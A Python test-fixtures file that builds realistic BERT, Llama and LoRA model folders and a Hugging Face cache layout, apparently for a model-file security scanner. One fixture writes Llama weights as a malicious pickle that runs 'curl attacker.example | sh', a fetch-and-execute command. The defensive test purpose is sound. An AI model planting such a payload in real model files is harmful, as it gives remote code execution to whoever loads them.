"""Model folders written as the libraries write them, and a Hugging Face cache laid out as
huggingface_hub lays it out (refs, snapshots of relative symlinks into blobs)."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save_file

from tests.helpers import evil_pickle

AddRepo = Callable[..., Path]

#: config.json as transformers 4.44 writes it for a BERT model fine-tuned from bert-base-uncased.
BERT_CONFIG: dict[str, Any] = {
    "_name_or_path": "bert-base-uncased",
    "architectures": ["BertForSequenceClassification"],
    "attention_probs_dropout_prob": 0.1,
    "classifier_dropout": None,
    "gradient_checkpointing": False,
    "hidden_act": "gelu",
    "hidden_dropout_prob": 0.1,
    "hidden_size": 32,
    "initializer_range": 0.02,
    "intermediate_size": 37,
    "layer_norm_eps": 1e-12,
    "max_position_embeddings": 512,
    "model_type": "bert",
    "num_attention_heads": 4,
    "num_hidden_layers": 2,
    "pad_token_id": 0,
    "position_embedding_type": "absolute",
    "torch_dtype": "float32",
    "transformers_version": "4.44.2",
    "type_vocab_size": 2,
    "use_cache": True,
    "vocab_size": 30522,
}

#: config.json of a Llama model, as transformers writes it.
LLAMA_CONFIG: dict[str, Any] = {
    "_name_or_path": "evil-org/llama-7b-base",
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 64,
    "intermediate_size": 172,
    "max_position_embeddings": 4096,
    "model_type": "llama",
    "num_attention_heads": 4,
    "num_hidden_layers": 2,
    "num_key_value_heads": 4,
    "rms_norm_eps": 1e-05,
    "rope_scaling": None,
    "rope_theta": 10000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "float16",
    "transformers_version": "4.44.2",
    "use_cache": True,
    "vocab_size": 32000,
}

TOKENIZER_CONFIG: dict[str, Any] = {
    "added_tokens_decoder": {
        "0": {
            "content": "[PAD]",
            "lstrip": False,
            "normalized": False,
            "rstrip": False,
            "single_word": False,
            "special": True,
        },
    },
    "clean_up_tokenization_spaces": True,
    "cls_token": "[CLS]",
    "do_lower_case": True,
    "mask_token": "[MASK]",
    "model_max_length": 512,
    "pad_token": "[PAD]",
    "sep_token": "[SEP]",
    "strip_accents": None,
    "tokenize_chinese_chars": True,
    "tokenizer_class": "BertTokenizer",
    "unk_token": "[UNK]",
}


#: adapter_config.json as peft 0.12 writes it for a LoRA adapter.
def adapter_config(base: str, revision: str | None = None) -> dict[str, Any]:
    return {
        "alpha_pattern": {},
        "auto_mapping": None,
        "base_model_name_or_path": base,
        "bias": "none",
        "fan_in_fan_out": False,
        "inference_mode": True,
        "init_lora_weights": True,
        "layer_replication": None,
        "layers_pattern": None,
        "layers_to_transform": None,
        "loftq_config": {},
        "lora_alpha": 16,
        "lora_dropout": 0.05,
        "megatron_config": None,
        "megatron_core": "megatron.core",
        "modules_to_save": None,
        "peft_type": "LORA",
        "r": 8,
        "rank_pattern": {},
        "revision": revision,
        "target_modules": ["q_proj", "v_proj"],
        "task_type": "CAUSAL_LM",
        "use_dora": False,
        "use_rslora": False,
    }


def write_json(path: Path, obj: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(obj, indent=2, sort_keys=True) + "\n")
    return path


def weights(path: Path, **shapes: tuple[int, ...]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    save_file({name: np.zeros(shape, dtype=np.float32) for name, shape in shapes.items()}, str(path))
    return path


def bert_folder(folder: Path) -> Path:
    """A fine-tuned BERT as `save_pretrained` leaves it: config, tokenizer files, safetensors weights."""
    write_json(folder / "config.json", BERT_CONFIG)
    write_json(folder / "tokenizer_config.json", TOKENIZER_CONFIG)
    write_json(
        folder / "special_tokens_map.json",
        {
            "cls_token": "[CLS]",
            "mask_token": "[MASK]",
            "pad_token": "[PAD]",
            "sep_token": "[SEP]",
            "unk_token": "[UNK]",
        },
    )
    (folder / "vocab.txt").write_text("[PAD]\n[UNK]\n[CLS]\n[SEP]\n[MASK]\nthe\nof\n")
    weights(folder / "model.safetensors", **{"bert.embeddings.word_embeddings.weight": (8, 4)})
    return folder


def adapter_folder(folder: Path, base: str, revision: str | None = None) -> Path:
    write_json(folder / "adapter_config.json", adapter_config(base, revision))
    weights(folder / "adapter_model.safetensors", **{"base_model.model.layers.0.q_proj.lora_A.weight": (8, 64)})
    (folder / "README.md").write_text("---\nlibrary_name: peft\n---\n# LoRA adapter\n")
    return folder


def llama_files(evil: bool = False) -> dict[str, bytes]:
    """Files of a Llama base repository; with `evil`, its weights are a pickle that runs a command."""
    files = {
        "config.json": json.dumps(LLAMA_CONFIG, indent=2).encode(),
        "generation_config.json": b'{"bos_token_id": 1, "eos_token_id": 2, "transformers_version": "4.44.2"}',
    }
    if evil:
        files["pytorch_model.bin"] = evil_pickle("curl attacker.example | sh")
    return files


@pytest.fixture
def hub_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AddRepo:
    """An empty HF_HUB_CACHE; the returned function adds a repository and returns its snapshot folder."""
    cache = tmp_path / "hf-cache"
    cache.mkdir()
    monkeypatch.setenv("HF_HUB_CACHE", str(cache))

    def add_repo(repo_id: str, files: dict[str, bytes], revision: str = "main") -> Path:
        repo = cache / ("models--" + repo_id.replace("/", "--"))
        commit = hashlib.sha1(repo_id.encode() + revision.encode()).hexdigest()
        snapshot = repo / "snapshots" / commit
        for name, data in files.items():
            blob = repo / "blobs" / hashlib.sha256(data).hexdigest()
            blob.parent.mkdir(parents=True, exist_ok=True)
            blob.write_bytes(data)
            link = snapshot / name
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to(os.path.relpath(blob, link.parent))
        (repo / "refs").mkdir(parents=True, exist_ok=True)
        (repo / "refs" / revision).write_text(commit)
        return snapshot

    return add_repo
